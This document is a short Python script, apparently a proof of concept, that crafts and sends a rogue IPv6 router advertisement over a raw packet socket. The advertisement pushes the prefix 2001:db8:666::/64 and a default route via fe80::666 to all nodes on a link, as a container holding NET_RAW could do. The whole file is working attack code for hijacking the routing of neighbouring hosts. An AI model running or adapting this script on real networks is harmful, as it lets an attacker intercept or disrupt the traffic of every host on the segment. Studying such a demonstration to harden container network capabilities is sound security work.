#!/usr/bin/env python3
"""advertise.py INTERFACE: a router's advertisement (RFC 4861) as one frame, as a container with NET_RAW could send it: the
prefix 2001:db8:666::/64 for everybody's own addresses, and a default route by fe80::666. In the namespace of the caller."""
import socket
import struct
import sys

SENDER = socket.inet_pton(socket.AF_INET6, "fe80::666")
ALL_NODES = socket.inet_pton(socket.AF_INET6, "ff02::1")
PREFIX = socket.inet_pton(socket.AF_INET6, "2001:db8:666::")
ICMPV6, ADVERTISEMENT = 58, 134


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main():
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((sys.argv[1], 0))
    mac = out.getsockname()[4]
    option = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 86400, 0) + PREFIX
    body = struct.pack("!BBHBBHII", ADVERTISEMENT, 0, 0, 64, 0, 1800, 0, 0) + struct.pack("!BB", 1, 1) + mac + option
    pseudo = SENDER + ALL_NODES + struct.pack("!II", len(body), ICMPV6)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    head = struct.pack("!IHBB", 6 << 28, len(body), ICMPV6, 255) + SENDER + ALL_NODES
    frame = bytes.fromhex("333300000001") + mac + struct.pack("!H", 0x86DD) + head + body
    for _ in range(3):
        out.send(frame)


main()
